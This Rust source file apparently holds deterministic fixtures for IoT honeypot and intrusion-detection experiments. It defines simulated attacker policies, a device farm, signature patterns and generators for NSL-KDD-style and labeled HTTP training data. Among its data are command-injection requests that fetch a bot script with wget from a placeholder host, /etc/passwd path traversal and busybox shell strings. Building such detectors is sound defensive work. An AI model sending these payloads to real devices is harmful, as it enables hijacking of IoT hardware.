//! Synthetic experiment fixtures: the seeded request/response corpus, the
//! default attacker population, device-farm profiles, exploit signatures,
//! a schema-compatible NSL-KDD-style CSV generator, and a labeled HTTP
//! training set for the live evaluator. Everything is deterministic.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;

use crate::attacker::{AttackerPolicy, Expect, ProbeStep};
use crate::evaluator::SignatureList;
use crate::farm::{DelayParams, DeviceFarm, DeviceProfile, ResponseTemplate, Route};
use crate::normalize::normalize;
use crate::store::{NewRecord, RecordSource, ReqResStore, ResponseDoc, SeedEntry};

/// The three pre-check probes: (raw request, marker the expected response
/// carries, expected response body).
pub const PROBES: [(&str, &str, &str); 3] = [
    (
        "GET /cgi-bin/fwstat/build/meta HTTP/1.1\r\nHost: device.lan\r\n\r\n",
        "fwbuild-7731",
        "<html>firmware fwbuild-7731 stable</html>",
    ),
    (
        "GET /hnap/dev/info/model HTTP/1.1\r\nHost: device.lan\r\n\r\n",
        "model-dcs932",
        "<html>device model-dcs932 rev a2</html>",
    ),
    (
        "GET /upnp/ctl/wan/svc HTTP/1.1\r\nHost: device.lan\r\n\r\n",
        "svc-wanipc",
        "<html>service svc-wanipc enabled</html>",
    ),
];

/// Raw exploit payload; carries the first signature pattern.
pub const EXPLOIT_REQUEST: &str =
    "POST /cgi-bin/run HTTP/1.1\r\nHost: device.lan\r\n\r\ncmd=;wget http://203.0.113.9/bot.sh";

pub const SIGNATURE_PATTERNS: [&str; 3] = [";wget http://", "/bin/busybox", "cd /tmp"];

/// Distractor responses stored next to each expected probe response.
pub const DISTRACTORS_PER_PROBE: usize = 5;

pub fn signatures() -> SignatureList {
    SignatureList::from_patterns(&SIGNATURE_PATTERNS)
}

/// Seed corpus: for every probe, its expected response among
/// `DISTRACTORS_PER_PROBE` distinct distractors, plus a few benign pages
/// (the scanner's `GET /` among them) so ordinary paths are never OOV.
pub fn seed_entries() -> Vec<SeedEntry> {
    let page = |body: &str| {
        ResponseDoc::new(
            200,
            "OK",
            &[("Content-Type", "text/html")],
            body.as_bytes(),
        )
    };
    let mut entries = Vec::new();
    for (raw, _, expected_body) in PROBES {
        entries.push(SeedEntry {
            request: raw.as_bytes().to_vec(),
            response: page(expected_body),
        });
        for d in 0..DISTRACTORS_PER_PROBE {
            entries.push(SeedEntry {
                request: raw.as_bytes().to_vec(),
                response: page(&format!("<html>generic page variant {d}</html>")),
            });
        }
    }
    for (raw, body) in [
        (
            "GET / HTTP/1.1\r\nHost: device.lan\r\n\r\n",
            "<html>index</html>",
        ),
        (
            "GET /login HTTP/1.1\r\nHost: device.lan\r\n\r\n",
            "<html>login page</html>",
        ),
        (
            "GET /status HTTP/1.1\r\nHost: device.lan\r\n\r\n",
            "<html>status page</html>",
        ),
    ] {
        entries.push(SeedEntry {
            request: raw.as_bytes().to_vec(),
            response: page(body),
        });
    }
    entries
}

/// The seed corpus ingested into a fresh in-memory store.
pub fn seed_store() -> ReqResStore {
    let mut store = ReqResStore::in_memory();
    for entry in seed_entries() {
        let request = normalize(&entry.request).expect("seed requests are well-formed");
        store
            .append_record(NewRecord {
                request_key: request.request_key,
                response: entry.response,
                source: RecordSource::SeedCorpus,
                device_id: None,
                created_at: 0,
            })
            .expect("in-memory append");
    }
    store
}

/// Default population: 20% depth-0 exploiters, 50% depth-3 pre-checkers,
/// 30% scanners that always quit after one request.
pub fn population() -> Vec<(AttackerPolicy, f64)> {
    let exploiter = AttackerPolicy {
        policy_id: "exploiter".into(),
        probes: vec![],
        quit_probability: 1.0,
        exploit: Some(EXPLOIT_REQUEST.into()),
        persistence: 0,
        attack_label: "worm".into(),
    };
    let prechecker = AttackerPolicy {
        policy_id: "prechecker".into(),
        probes: PROBES
            .iter()
            .map(|(raw, marker, _)| ProbeStep {
                request: (*raw).into(),
                expect: Expect::BodyContains((*marker).into()),
            })
            .collect(),
        quit_probability: 1.0,
        exploit: Some(EXPLOIT_REQUEST.into()),
        persistence: 0,
        attack_label: "guess_passwd".into(),
    };
    let scanner = AttackerPolicy {
        policy_id: "scanner".into(),
        probes: vec![ProbeStep {
            request: "GET / HTTP/1.1\r\nHost: device.lan\r\n\r\n".into(),
            expect: Expect::Never,
        }],
        quit_probability: 1.0,
        exploit: None,
        persistence: 0,
        attack_label: "ipsweep".into(),
    };
    vec![(exploiter, 0.2), (prechecker, 0.5), (scanner, 0.3)]
}

fn banner(device: &str) -> ResponseTemplate {
    ResponseTemplate {
        status: 200,
        reason: "OK".into(),
        headers: vec![("Content-Type".into(), "text/html".into())],
        body: format!("<html>{device} admin console</html>"),
    }
}

/// Three local devices and two internet-exposed ones; internet delays stay
/// inside the farm timeout so forwards normally succeed.
pub fn farm() -> DeviceFarm {
    let login_route = |body: &str| Route {
        method: "GET".into(),
        pattern: "/login".into(),
        template: ResponseTemplate {
            status: 200,
            reason: "OK".into(),
            headers: vec![("Content-Type".into(), "text/html".into())],
            body: body.into(),
        },
    };
    let local = vec![
        DeviceProfile {
            device_id: "cam-01".into(),
            vendor: "acme-cams".into(),
            routes: vec![login_route("<html>camera login</html>")],
            default_response: banner("ip camera"),
            delay: DelayParams::default(),
        },
        DeviceProfile {
            device_id: "router-01".into(),
            vendor: "acme-net".into(),
            routes: vec![login_route("<html>router login</html>")],
            default_response: banner("home router"),
            delay: DelayParams::default(),
        },
        DeviceProfile {
            device_id: "plug-01".into(),
            vendor: "acme-power".into(),
            routes: vec![],
            default_response: banner("smart plug"),
            delay: DelayParams::default(),
        },
    ];
    let internet = vec![
        DeviceProfile {
            device_id: "wan-cam-01".into(),
            vendor: "acme-cams".into(),
            routes: vec![],
            default_response: banner("exposed camera"),
            delay: DelayParams {
                min_ms: 5,
                max_ms: 60,
            },
        },
        DeviceProfile {
            device_id: "wan-dvr-01".into(),
            vendor: "acme-video".into(),
            routes: vec![],
            default_response: banner("exposed dvr"),
            delay: DelayParams {
                min_ms: 5,
                max_ms: 60,
            },
        },
    ];
    DeviceFarm::new(local, internet, 100).expect("synthetic farm is valid")
}

const DOS_LABELS: [&str; 4] = ["neptune", "smurf", "back", "teardrop"];
const PROBE_LABELS: [&str; 3] = ["satan", "ipsweep", "portsweep"];
const R2L_LABELS: [&str; 3] = ["guess_passwd", "warezclient", "imap"];
const U2R_LABELS: [&str; 2] = ["buffer_overflow", "rootkit"];

struct NslProfile {
    duration: u64,
    src_bytes: u64,
    dst_bytes: u64,
    num_failed_logins: u64,
    logged_in: u8,
    root_shell: u8,
    num_root: u64,
    num_file_creations: u64,
    hot: u64,
    count: u64,
    srv_count: u64,
    serror_rate: f64,
    rerror_rate: f64,
    same_srv_rate: f64,
    diff_srv_rate: f64,
    dst_host_count: u64,
    dst_host_srv_count: u64,
    dst_host_same_src_port_rate: f64,
    protocol: &'static str,
    service: &'static str,
    flag: &'static str,
}

fn pick<'a, T>(rng: &mut impl Rng, items: &'a [T]) -> &'a T {
    &items[rng.random_range(0..items.len())]
}

fn normal_profile(rng: &mut impl Rng) -> NslProfile {
    let count = rng.random_range(1..30);
    NslProfile {
        duration: if rng.random::<f64>() < 0.7 {
            0
        } else {
            rng.random_range(1..200)
        },
        src_bytes: rng.random_range(100..3000),
        dst_bytes: rng.random_range(100..50000),
        num_failed_logins: 0,
        logged_in: u8::from(rng.random::<f64>() < 0.8),
        root_shell: 0,
        num_root: 0,
        num_file_creations: 0,
        hot: 0,
        count,
        srv_count: count.max(1),
        serror_rate: rng.random_range(0.0..0.05),
        rerror_rate: rng.random_range(0.0..0.05),
        same_srv_rate: rng.random_range(0.8..1.0),
        diff_srv_rate: rng.random_range(0.0..0.1),
        dst_host_count: rng.random_range(1..255),
        dst_host_srv_count: rng.random_range(100..255),
        dst_host_same_src_port_rate: rng.random_range(0.0..0.2),
        protocol: if rng.random::<f64>() < 0.8 { "tcp" } else { "udp" },
        service: pick(rng, &["http", "smtp", "ftp_data", "domain_u"]),
        flag: if rng.random::<f64>() < 0.95 { "SF" } else { "REJ" },
    }
}

fn attack_profile(rng: &mut impl Rng, category: usize) -> NslProfile {
    let mut p = normal_profile(rng);
    match category {
        // DoS: half-open floods
        0 => {
            p.duration = 0;
            p.src_bytes = if rng.random::<f64>() < 0.6 {
                0
            } else {
                rng.random_range(0..500)
            };
            p.dst_bytes = 0;
            p.logged_in = 0;
            p.count = rng.random_range(100..512);
            p.srv_count = rng.random_range(100..512);
            p.serror_rate = rng.random_range(0.7..1.0);
            p.same_srv_rate = rng.random_range(0.0..0.2);
            p.dst_host_srv_count = rng.random_range(0..40);
            p.protocol = if rng.random::<f64>() < 0.7 { "tcp" } else { "icmp" };
            p.service = *pick(rng, &["private", "http", "ecr_i"]);
            p.flag = if rng.random::<f64>() < 0.8 { "S0" } else { "REJ" };
        }
        // Probe: service sweeps
        1 => {
            p.duration = 0;
            p.src_bytes = rng.random_range(0..100);
            p.dst_bytes = rng.random_range(0..100);
            p.logged_in = 0;
            p.count = rng.random_range(1..50);
            p.rerror_rate = rng.random_range(0.3..1.0);
            p.same_srv_rate = rng.random_range(0.0..0.3);
            p.diff_srv_rate = rng.random_range(0.5..1.0);
            p.dst_host_same_src_port_rate = rng.random_range(0.5..1.0);
            p.dst_host_srv_count = rng.random_range(0..30);
            p.service = *pick(rng, &["private", "other", "eco_i"]);
            p.flag = *pick(rng, &["REJ", "RSTR", "SF"]);
        }
        // R2L: password guessing and friends
        2 => {
            p.duration = rng.random_range(1..100);
            p.num_failed_logins = rng.random_range(1..5);
            p.hot = rng.random_range(0..10);
            p.logged_in = u8::from(rng.random::<f64>() < 0.3);
            p.count = rng.random_range(1..5);
            p.srv_count = p.count;
            p.dst_host_srv_count = rng.random_range(0..60);
            p.service = *pick(rng, &["ftp", "telnet", "imap4", "pop_3"]);
        }
        // U2R: escalation on an existing login
        _ => {
            p.duration = rng.random_range(10..300);
            p.root_shell = u8::from(rng.random::<f64>() < 0.8);
            p.num_root = rng.random_range(1..8);
            p.num_file_creations = rng.random_range(1..5);
            p.hot = rng.random_range(1..10);
            p.logged_in = 1;
            p.count = rng.random_range(1..5);
            p.srv_count = p.count;
            p.service = *pick(rng, &["telnet", "ftp", "http"]);
        }
    }
    p
}

fn nsl_row(p: &NslProfile, label: &str) -> String {
    // 41 features in schema order, then the label
    let fields: Vec<String> = vec![
        p.duration.to_string(),           // 1 duration
        p.protocol.to_string(),           // 2 protocol_type
        p.service.to_string(),            // 3 service
        p.flag.to_string(),               // 4 flag
        p.src_bytes.to_string(),          // 5 src_bytes
        p.dst_bytes.to_string(),          // 6 dst_bytes
        "0".into(),                       // 7 land
        "0".into(),                       // 8 wrong_fragment
        "0".into(),                       // 9 urgent
        p.hot.to_string(),                // 10 hot
        p.num_failed_logins.to_string(),  // 11 num_failed_logins
        p.logged_in.to_string(),          // 12 logged_in
        "0".into(),                       // 13 num_compromised
        p.root_shell.to_string(),         // 14 root_shell
        "0".into(),                       // 15 su_attempted
        p.num_root.to_string(),           // 16 num_root
        p.num_file_creations.to_string(), // 17 num_file_creations
        "0".into(),                       // 18 num_shells
        "0".into(),                       // 19 num_access_files
        "0".into(),                       // 20 num_outbound_cmds
        "0".into(),                       // 21 is_host_login
        "0".into(),                       // 22 is_guest_login
        p.count.to_string(),              // 23 count
        p.srv_count.to_string(),          // 24 srv_count
        format!("{:.2}", p.serror_rate),  // 25 serror_rate
        format!("{:.2}", p.serror_rate),  // 26 srv_serror_rate
        format!("{:.2}", p.rerror_rate),  // 27 rerror_rate
        format!("{:.2}", p.rerror_rate),  // 28 srv_rerror_rate
        format!("{:.2}", p.same_srv_rate), // 29 same_srv_rate
        format!("{:.2}", p.diff_srv_rate), // 30 diff_srv_rate
        "0.00".into(),                    // 31 srv_diff_host_rate
        p.dst_host_count.to_string(),     // 32 dst_host_count
        p.dst_host_srv_count.to_string(), // 33 dst_host_srv_count
        format!("{:.2}", p.same_srv_rate), // 34 dst_host_same_srv_rate
        format!("{:.2}", p.diff_srv_rate), // 35 dst_host_diff_srv_rate
        format!("{:.2}", p.dst_host_same_src_port_rate), // 36 dst_host_same_src_port_rate
        "0.00".into(),                    // 37 dst_host_srv_diff_host_rate
        format!("{:.2}", p.serror_rate),  // 38 dst_host_serror_rate
        format!("{:.2}", p.serror_rate),  // 39 dst_host_srv_serror_rate
        format!("{:.2}", p.rerror_rate),  // 40 dst_host_rerror_rate
        format!("{:.2}", p.rerror_rate),  // 41 dst_host_srv_rerror_rate
    ];
    format!("{},{}\n", fields.join(","), label)
}

/// A schema-compatible NSL-KDD-style CSV: 41 features plus a label per row,
/// roughly 53% normal / 47% attack, with a few percent of crossover rows so
/// the classes are not perfectly separable.
pub fn synth_nslkdd(rows: usize, seed: u64) -> String {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    let mut out = String::new();
    for _ in 0..rows {
        let is_attack = rng.random::<f64>() < 0.47;
        let crossover = rng.random::<f64>() < 0.03;
        if is_attack {
            let r = rng.random::<f64>();
            let category = if r < 0.45 {
                0
            } else if r < 0.70 {
                1
            } else if r < 0.90 {
                2
            } else {
                3
            };
            let label = match category {
                0 => *pick(&mut rng, &DOS_LABELS),
                1 => *pick(&mut rng, &PROBE_LABELS),
                2 => *pick(&mut rng, &R2L_LABELS),
                _ => *pick(&mut rng, &U2R_LABELS),
            };
            let profile = if crossover {
                normal_profile(&mut rng)
            } else {
                attack_profile(&mut rng, category)
            };
            out.push_str(&nsl_row(&profile, label));
        } else {
            let profile = if crossover {
                let category = rng.random_range(0..4);
                attack_profile(&mut rng, category)
            } else {
                normal_profile(&mut rng)
            };
            out.push_str(&nsl_row(&profile, "normal"));
        }
    }
    out
}

/// Labeled raw HTTP requests for training the live-traffic evaluator:
/// benign browsing mixed with payloads that trip the heuristic features.
pub fn http_training_set(rows: usize, seed: u64) -> Vec<(Vec<u8>, bool)> {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    let benign_paths = [
        "/", "/login", "/status", "/index.html", "/static/logo.png", "/api/time",
    ];
    let mut out = Vec::with_capacity(rows);
    for _ in 0..rows {
        let is_attack = rng.random::<f64>() < 0.5;
        let raw = if is_attack {
            let kind = rng.random_range(0..4);
            match kind {
                0 => format!(
                    "POST /cgi-bin/run HTTP/1.1\r\nHost: a\r\n\r\ncmd=;wget http://203.0.113.{}/x.sh",
                    rng.random_range(1..250)
                )
                .into_bytes(),
                1 => format!(
                    "GET /../../../etc/passwd{} HTTP/1.1\r\nHost: a\r\n\r\n",
                    rng.random_range(0..40)
                )
                .into_bytes(),
                2 => format!(
                    "POST /tmp HTTP/1.1\r\nHost: a\r\n\r\ncd /tmp && /bin/busybox ECCHI{}",
                    rng.random_range(0..40)
                )
                .into_bytes(),
                _ => {
                    let mut raw = b"PUT /upload HTTP/1.1\r\nHost: a\r\n\r\n".to_vec();
                    let n = rng.random_range(40..200);
                    for _ in 0..n {
                        raw.push(rng.random());
                    }
                    raw
                }
            }
        } else {
            let path = *pick(&mut rng, &benign_paths);
            if rng.random::<f64>() < 0.3 {
                format!(
                    "POST {path} HTTP/1.1\r\nHost: device.lan\r\n\r\nuser=admin&page={}",
                    rng.random_range(0..50)
                )
                .into_bytes()
            } else {
                format!("GET {path} HTTP/1.1\r\nHost: device.lan\r\n\r\n").into_bytes()
            }
        };
        out.push((raw, is_attack));
    }
    out
}
